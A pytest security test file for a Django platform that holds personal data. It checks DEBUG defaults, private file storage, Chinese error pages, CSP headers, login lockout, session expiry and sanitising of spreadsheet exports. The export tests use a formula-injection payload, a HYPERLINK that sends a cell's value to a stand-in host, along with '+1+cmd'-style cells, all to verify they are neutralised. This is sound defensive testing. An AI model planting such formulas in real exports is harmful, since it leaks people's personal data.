"""The defences around the platform's personal data: nothing served without a check, the
platform's own error pages, a Content-Security-Policy without inline script, login
lockout, idle staff sessions, and exports that cannot attack the spreadsheet opening them."""

import io
import os
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.test import override_settings

from apps.accounts.models import AccessEntry, User
from apps.people.models import KeyGroupTag
from apps.people.tests.factories import PersonFactory
from jiuye.exports import neutralise

A1 = "341282001001"
BASE = Path(settings.BASE_DIR)
PAYLOAD = '=HYPERLINK("http://x/?"&A1,"点我")'


def test_debug_is_off_unless_asked_for(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "DEBUG"}
    env.update(JIUYE_VAR_DIR=str(tmp_path), DJANGO_SETTINGS_MODULE="jiuye.settings")
    code = "import django; django.setup(); from django.conf import settings; print(settings.DEBUG)"
    out = subprocess.run(
        [sys.executable, "-c", code], cwd=BASE, env=env, capture_output=True, text=True
    )
    assert out.stdout.strip() == "False", out.stderr
    # Without SECRET_KEY a random one is made beside the data, readable by the owner only.
    key = tmp_path / "secret_key"
    assert len(key.read_text()) >= 50 and key.stat().st_mode & 0o077 == 0


def test_uploaded_files_have_no_address(client, staff):
    from apps.imports.services import create_import

    clerk = staff("county_staff", "341282")
    job = create_import(kind="people", file=ContentFile(b"id\n"), filename="secret.csv", user=clerk)
    assert Path(job.file.path).exists() and "secret" not in job.file.name  # random name
    with pytest.raises(ValueError):
        job.file.url  # noqa: B018 (no URL serves private storage)
    for who in (None, clerk):
        if who:
            client.force_login(who)
        for path in (f"/media/{job.file.name}", f"/{job.file.name}", "/media/"):
            assert client.get(path).status_code == 404


def test_error_pages_are_the_platforms_own_in_chinese_with_the_reason(client, staff):
    person = PersonFactory(community_id=A1)
    client.force_login(staff("leader", "341282"))
    denied = client.post(f"/people/{person.pk}/reveal/")
    assert denied.status_code == 403
    assert (
        "无权访问" in denied.content.decode()
        and "您的角色不能查看完整证件号码" in denied.content.decode()
    )
    missing = client.get("/no-such-page/")
    text = missing.content.decode()
    assert missing.status_code == 404 and "页面不存在" in text
    assert "urlpatterns" not in text and "admin/" not in text  # no URL list
    gone = client.get("/people/999999/")
    assert gone.status_code == 404 and "没有这个人员,或不在您的管辖区域内" in gone.content.decode()


def test_a_form_without_csrf_token_gets_a_chinese_page(staff):
    from django.test import Client

    strict = Client(enforce_csrf_checks=True)
    strict.force_login(staff("county_staff", "341282"))
    response = strict.post("/imports/", {})
    assert response.status_code == 403 and "表单已过期" in response.content.decode()


def test_the_content_security_policy_forbids_inline_script(client, staff):
    client.force_login(staff("county_staff", "341282"))
    policy = client.get("/").headers["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if d.strip())
    assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'"
    assert "unsafe" not in policy and directives["frame-ancestors"] == "'none'"


def test_no_template_holds_inline_script_style_or_handlers():
    """The CSP would block them: what a page needs lives in static files."""
    offending = []
    for path in BASE.glob("apps/*/templates/**/*.html"):
        text = path.read_text()
        for pattern in (
            r"<script(?![^>]*\ssrc=)[^>]*>",
            r"\son[a-z]+\s*=",
            r"\sstyle\s*=",
            "<style",
        ):
            if re.search(pattern, text):
                offending.append(f"{path.relative_to(BASE)}: {pattern}")
    assert offending == []


# --- login lockout -------------------------------------------------------------------------
@pytest.fixture
def account(db):
    return User.objects.create_user(username="clerk", password="right-pw-2026", role="admin")


def attempt(client, username, password, ip="10.0.0.1"):
    return client.post(
        "/accounts/login/", {"username": username, "password": password}, REMOTE_ADDR=ip
    )


def test_repeated_wrong_passwords_lock_the_account_even_for_the_right_one(client, account):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert attempt(client, "clerk", "guess").status_code == 200  # the form again
    assert attempt(client, "clerk", "guess").status_code == 429  # the last allowed failure
    locked = attempt(client, "clerk", "right-pw-2026")
    assert locked.status_code == 429 and "登录已暂时锁定" in locked.content.decode()
    assert "_auth_user_id" not in client.session
    # From another address too: the account itself is locked.
    assert attempt(client, "clerk", "right-pw-2026", ip="10.0.0.2").status_code == 429


def test_an_address_guessing_many_accounts_is_locked(client, account):
    for i in range(settings.LOGIN_ADDRESS_FAILURE_LIMIT):
        attempt(client, f"user{i}", "guess", ip="10.0.0.9")
    assert attempt(client, "clerk", "right-pw-2026", ip="10.0.0.9").status_code == 429
    assert attempt(client, "clerk", "right-pw-2026", ip="10.0.0.3").status_code == 302


def test_one_persons_typos_do_not_lock_their_office_out(client, account):
    """An office reaches the platform from one address."""
    for _ in range(settings.AXES_FAILURE_LIMIT):
        attempt(client, "colleague", "typo", ip="10.0.0.7")
    assert attempt(client, "colleague", "typo", ip="10.0.0.7").status_code == 429
    assert attempt(client, "clerk", "right-pw-2026", ip="10.0.0.7").status_code == 302


def test_signing_in_to_ones_own_account_does_not_clear_the_guesses(client, account):
    """Guesses at another's password between sign-ins to one's own are still counted."""
    User.objects.create_user(username="mine", password="my-own-pw-2026", role="worker")
    for _ in range(3):
        for _ in range(settings.AXES_FAILURE_LIMIT - 1):
            attempt(client, "clerk", "guess", ip="10.0.0.8")
        assert attempt(client, "mine", "my-own-pw-2026", ip="10.0.0.8").status_code == 302
        client.logout()
    assert attempt(client, "clerk", "right-pw-2026", ip="10.0.0.8").status_code == 429


def test_an_administrator_unlocks_in_the_admin(client, account):
    from axes.models import AccessAttempt

    for _ in range(settings.AXES_FAILURE_LIMIT):
        attempt(client, "clerk", "guess")
    admin = User.objects.create_superuser(username="root", password="x-pw-for-tests", role="admin")
    client.force_login(admin)
    attempts = AccessAttempt.objects.filter(username="clerk")
    response = client.post(
        "/admin/axes/accessattempt/",
        {"action": "delete_selected", "_selected_action": [a.pk for a in attempts], "post": "yes"},
    )
    assert response.status_code == 302 and not AccessAttempt.objects.filter(username="clerk")
    client.logout()
    assert attempt(client, "clerk", "right-pw-2026").status_code == 302


@override_settings(TRUSTED_PROXIES=1)
def test_behind_a_proxy_the_address_is_the_one_the_proxy_saw(rf):
    from apps.accounts.requests import client_ip

    request = rf.get("/", REMOTE_ADDR="10.1.1.1", HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.7")
    assert client_ip(request) == "203.0.113.7"  # the client cannot forge the proxy's entry


def test_staff_sessions_end_when_idle_and_workers_keep_theirs(client, staff):
    client.force_login(staff("county_staff", "341282"))
    client.get("/")
    assert client.session.get_expiry_age() == settings.STAFF_IDLE_SECONDS
    worker = User.objects.create_user(username="w", password="x", role="worker")
    client.force_login(worker)
    client.get("/policies/")
    assert client.session.get_expiry_age() == settings.SESSION_COOKIE_AGE


# --- exports -------------------------------------------------------------------------------
def test_the_export_writer_neutralises_formulas_and_keeps_numbers():
    assert neutralise(PAYLOAD) == "'" + PAYLOAD
    for cell in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(cell).startswith("'")
    for cell in (-432500, 3.5, "-432500", "+86", "1,234.5", "张三", ""):
        assert neutralise(cell) == cell


def test_a_ledger_export_returns_a_formula_as_text_and_is_logged(client, staff):
    person = PersonFactory(community_id=A1, name=PAYLOAD)
    KeyGroupTag.objects.create(person=person, group="graduate", start="2026-01-01")
    clerk = staff("community_staff", A1)
    client.force_login(clerk)
    response = client.get("/ledgers/", {"group": "graduate", "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["B2"].value == "'" + PAYLOAD and sheet["B2"].data_type == "s"
    assert sheet["A2"].value == 1  # numbers stay numbers
    summary = AccessEntry.objects.get(viewer=clerk, person__isnull=True)
    assert (summary.purpose, summary.rows, summary.filters) == (
        "export",
        1,
        {"group": "graduate"},
    )
    assert AccessEntry.objects.filter(viewer=clerk, person=person, purpose="export").exists()


def test_the_promise_export_is_logged_with_everyone_it_names(client, staff):
    from apps.services.tests.test_promises import tagged

    person = tagged("migrant_worker", community_id=A1)
    clerk = staff("county_staff", "341282")
    client.force_login(clerk)
    response = client.get("/promises/", {"format": "xlsx"})
    assert response.status_code == 200
    summary = AccessEntry.objects.get(viewer=clerk, person__isnull=True)
    assert summary.resource == "服务承诺待兑现名单" and summary.rows >= 1
    assert AccessEntry.objects.filter(viewer=clerk, person=person).exists()
